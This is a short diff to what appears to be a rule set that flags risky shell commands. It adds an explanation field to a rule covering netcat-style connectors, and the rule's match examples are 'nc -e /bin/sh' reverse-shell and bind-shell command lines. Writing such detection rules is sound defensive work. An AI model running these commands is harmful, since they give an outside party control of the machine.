@@ -24,6 +24,8 @@ CONNECTORS = ("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd")
     effects=(Runs, RunsCode, StartsShell, CodeUse),
     programs=CONNECTORS,
     is_reversible=False,
+    instead="run the command here and show its output",
+    review="who is at the other end: it would command this machine",
     match=(
         "nc -e /bin/sh 192.0.2.1 4444",
         "nc -l -p 4444 -e /bin/bash",
